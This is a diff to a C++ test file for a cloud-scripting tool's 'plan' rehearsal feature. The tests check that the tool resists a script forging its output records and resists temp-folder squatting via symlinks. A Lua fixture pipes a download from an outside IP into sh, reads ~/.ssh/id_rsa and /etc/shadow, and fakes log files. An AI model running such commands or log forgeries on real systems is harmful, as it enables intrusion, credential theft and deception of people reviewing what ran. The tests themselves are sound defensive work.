@@ -31,6 +31,15 @@ bool exists(const std::string& path) {
   return stat(path.c_str(), &st) == 0;
 }
 
+// The folder `runara plan` (process `pid`) made in `tmp` (runara-plan-PID-XXXXXX), or "".
+std::string plan_folder(const std::string& tmp, pid_t pid) {
+  const std::string prefix = "runara-plan-" + std::to_string(pid) + "-";
+  std::error_code ec;
+  for (const auto& e : std::filesystem::directory_iterator(tmp, ec))
+    if (e.path().filename().string().rfind(prefix, 0) == 0) return e.path().string();
+  return "";
+}
+
 // The line after `key` in `text`, e.g. the folder a script printed.
 std::string value_after(const std::string& text, const std::string& key) {
   const auto at = text.find(key);
@@ -253,10 +262,11 @@ TEST_CASE("runara plan still prints what it saw when the rehearsal is killed, an
       "s:exec('echo up')\n"
       "while true do runara.sleep(1) end\n");
   ChildProcess plan({RUNARA_BINARY, "plan", script}, {{"TMPDIR", dir}});
-  const std::string out = dir + "/runara-plan-" + std::to_string(plan.pid());
+  std::string out;  // the rehearsal's output folder, in the plan's (TMPDIR/runara-plan-PID-XXXXXX/out)
   std::string rehearsal;  // the child rehearsing, once its machine answered
   for (int i = 0; i < 300 && rehearsal.empty(); ++i) {
-    if (read_all(out + "/run.log").find("ssh: connected") != std::string::npos)
+    if (out.empty()) out = plan_folder(dir, plan.pid());
+    if (!out.empty() && read_all(out + "/out/run.log").find("ssh: connected") != std::string::npos)
       rehearsal = read_all("/proc/" + std::to_string(plan.pid()) + "/task/" + std::to_string(plan.pid()) + "/children");
     usleep(100000);
   }
@@ -269,7 +279,95 @@ TEST_CASE("runara plan still prints what it saw when the rehearsal is killed, an
   CHECK(r.out.find("It creates 1 machine") != std::string::npos);
   CHECK(r.out.find("   1 x  echo up") != std::string::npos);
   CHECK(!exists(out));
+  CHECK(plan_folder(dir, plan.pid()).empty());  // nor its simulated cloud's folder
   CHECK(eventually([&] { return processes_mentioning("/runara-sim-") == 0 || processes_mentioning(dir) == 0; }, 10));
+}
+
+// The attack of issue 36: a script that does what a reader of its plan should see (two H100s
+// for the hour, a pipe into sh and a private key read on one of them, a file uploaded, a grant
+// asked for), then writes over what runara used to read its plan from, in its own output folder
+// (ssh/<machine>.log, plan-denied.txt, plan-outcome.txt) and, through runara.log, into run.log.
+// The plan it forged read: one nvidia-smi, no file, no grant, a machine at $0.01/h for 60 s.
+TEST_CASE("runara plan shows what the script did, not the record it forged in its output folder", "[sim]") {
+  const std::string dir = temp_dir("sim-plan-forged");
+  write_temp_file(dir, "payload.sh", "echo pwned\n");
+  const std::string script = write_temp_file(dir, "forger.lua", R"lua(
+local a = droplet.create{ name = "a", size = "gpu-h100x1-80gb", image = "gpu-h100x1-base", region = "nyc2" }
+local b = droplet.create{ name = "b", size = "gpu-h100x1-80gb", image = "gpu-h100x1-base", region = "nyc2" }
+local s = ssh.connect(a, { timeout = 30 })
+s:exec("curl -fsS http://198.51.100.7/x | sh", { check = false, quiet = true })
+s:exec("cat ~/.ssh/id_rsa", { check = false, quiet = true })
+s:upload("payload.sh", "payload.sh")
+pcall(runara.read_file, "/etc/shadow")
+-- The forgery: runara's own record, as the script would like it.
+for _, m in ipairs({ a, b }) do
+  runara.write_file("ssh/" .. m.name .. ".log", "$ nvidia-smi\n")
+end
+runara.write_file("ssh/c.log", "$ nvidia-smi\n# s:upload /forged -> x: 1 file(s), 1 bytes in 0.1 s\n")
+runara.write_file("plan-denied.txt", "\n")
+runara.write_file("plan-outcome.txt", "0\n")
+runara.log("creating droplet c (s-1vcpu-1gb in nyc1, image debian-12-x64, $0.01/h)")
+runara.log("watchdog: the run is limited to 60 s (watchdog.limit at forger.lua:1)")
+runara.log("droplet 1 (a) is gone")
+runara.log("droplet 2 (b) is gone")
+)lua");
+  const auto r = run_runara({"plan", "--max-runtime", "3600", script}, 90);
+  INFO(r.out << r.err);
+  CHECK(r.exit_code == 0);
+  CHECK(contains(r.out, "it ran to the end"));
+  CHECK(contains(r.out, "It creates 2 machines (at most 2 at once):"));
+  CHECK_FALSE(contains(r.out, "s-1vcpu-1gb"));
+  CHECK(contains(r.out, "Worst case: $6.78 (every machine alive until the 1.0 h deadline, --max-runtime 3600)"));
+  CHECK(contains(r.out, "   1 x  curl -fsS http://198.51.100.7/x | sh\n"));
+  CHECK(contains(r.out, "   1 x  cat ~/.ssh/id_rsa\n"));
+  CHECK_FALSE(contains(r.out, "nvidia-smi"));
+  CHECK(contains(r.out, "   1 x  s:upload " + dir + "/payload.sh -> payload.sh (a-"));
+  CHECK_FALSE(contains(r.out, "/forged"));
+  CHECK(contains(r.out, "only --allow-read /etc/shadow allows"));
+}
+
+// Another user of this computer who makes the plan's folder first (the name once was
+// TMPDIR/runara-plan-PID) must not have the plan list what they planted there as the script's,
+// nor have the plan write into, or remove, what they made: a folder or a symlink to one.
+TEST_CASE("runara plan does not adopt a folder or symlink planted where its own folder would be", "[sim]") {
+  const std::string tmp = temp_dir("sim-plan-squatted");
+  const std::string elsewhere = temp_dir("sim-plan-squatters");
+  write_temp_file(elsewhere, "keep.txt", "theirs");
+  // The plan's pid is not known before it starts: every pid the next few hundred processes may get.
+  const long last = std::stol(read_all("/proc/sys/kernel/ns_last_pid"));
+  for (long pid = last + 1; pid < last + 400; ++pid) {
+    const std::string name = tmp + "/runara-plan-" + std::to_string(pid);
+    if (pid % 2) {
+      std::filesystem::create_symlink(elsewhere, name);
+    } else {
+      std::filesystem::create_directories(name + "/ssh");
+      write_temp_file(name + "/ssh", "planted.log", "$ planted-command\n# s:upload /planted -> x: 1 file(s)\n");
+      write_temp_file(name, "plan-denied.txt", "--secret PLANTED\n");
+      write_temp_file(name, "run.log", "[   0.001] creating droplet planted (s-1vcpu-1gb in nyc1, image x, $9.00/h)\n");
+    }
+  }
+  const std::string script = write_temp_file(elsewhere, "quiet.lua", "runara.write_file('mine.txt', 'x')\n");
+  ChildProcess plan({RUNARA_BINARY, "plan", script}, {{"TMPDIR", tmp}});
+  const ChildResult r = plan.wait(60);
+  INFO("pid " << plan.pid() << " (last " << last << ")\n" << r.out << r.err);
+  REQUIRE(plan.pid() > last);
+  REQUIRE(plan.pid() < last + 400);  // the case planted this pid's name
+  CHECK(r.exit_code == 0);
+  CHECK(contains(r.out, "it ran to the end"));
+  CHECK(contains(r.out, "It creates no machine."));
+  CHECK(contains(r.out, "It ran no command on a machine."));
+  CHECK(contains(r.out, "It moved no file."));
+  CHECK_FALSE(contains(r.out, "planted-command"));
+  CHECK_FALSE(contains(r.out, "/planted"));
+  CHECK_FALSE(contains(r.out, "PLANTED"));
+  CHECK_FALSE(contains(r.out, "$9.00"));
+  const std::string name = tmp + "/runara-plan-" + std::to_string(plan.pid());
+  CHECK(std::filesystem::exists(std::filesystem::symlink_status(name)));  // left as it was
+  CHECK(read_all(elsewhere + "/keep.txt") == "theirs");
+  CHECK_FALSE(exists(elsewhere + "/mine.txt"));
+  CHECK_FALSE(exists(elsewhere + "/run.log"));
+  CHECK_FALSE(exists(name + "/mine.txt"));
+  CHECK(plan_folder(tmp, plan.pid()).empty());  // its own folder, gone
 }
 
 namespace {
